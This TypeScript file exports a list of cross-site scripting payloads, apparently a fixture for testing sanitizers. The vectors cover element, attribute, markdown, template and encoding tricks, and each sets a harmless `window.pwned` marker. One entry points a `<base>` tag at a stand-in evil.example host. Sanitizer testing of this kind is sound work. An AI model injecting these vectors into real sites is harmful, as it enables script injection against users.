/** Ways to smuggle a script into a page; each calls `window.pwned` when it works. From public collections, by kind. */
const call = 'window.pwned=1'

const elements = [
  `<script>${call}</script>`,
  `<SCRIPT/x>${call}</SCRIPT>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `</script><script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<img src=x onerror=${call}//`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror=${call}>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}" autofocus>x</a>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;javascript:${call}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${call})}">`,
  `<style>@import 'javascript:${call}';</style>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea></textarea><script>${call}</script>`,
  `<title></title><script>${call}</script>`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[><script>${call}</script>]]>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${call}>`,
  `<x contenteditable onblur=${call}>x`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call}>`,
]

const attributes = [
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus='`,
  `"><script>${call}</script>`,
  `'><img src=x onerror=${call}>`,
  '`><svg onload=window.pwned=1>',
  `javascript:${call}`,
  `JaVa\tScRiPt:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `&#106;avascript:${call}`,
  `jav&#x0A;ascript:${call}`,
]

const markdown = [
  `[x](javascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x]: javascript:${call}\n\n[x]`,
  `![x](x"onerror="${call})`,
  `![x](data:image/svg+xml,<svg onload=${call}>)`,
  `<javascript:${call}>`,
  `[x](https://a.example "title" onmouseover="${call}")`,
  `[x](https://a.example/"onmouseover="${call})`,
  `\`\`\`"><script>${call}</script>\nx\n\`\`\``,
  `\`<script>${call}</script>\``,
  `| <script>${call}</script> |\n|---|\n| <img src=x onerror=${call}> |`,
  `https://a.example/"><script>${call}</script>`,
  `[<img src=x onerror=${call}>](https://a.example)`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
]

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `[[${call}]]`,
]

const odd = [
  `\u2028<script>${call}</script>\u2029`,
  `<scr\u0000ipt>${call}</script>`,
  `<img src=x o\u200Bnerror=${call}>`,
  `\uFEFF<script>${call}</script>`,
  `＜script＞${call}＜/script＞`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `<script>${call}</script\u000A>`,
]

export const xssPayloads: readonly string[] = [...elements, ...attributes, ...markdown, ...templates, ...odd]
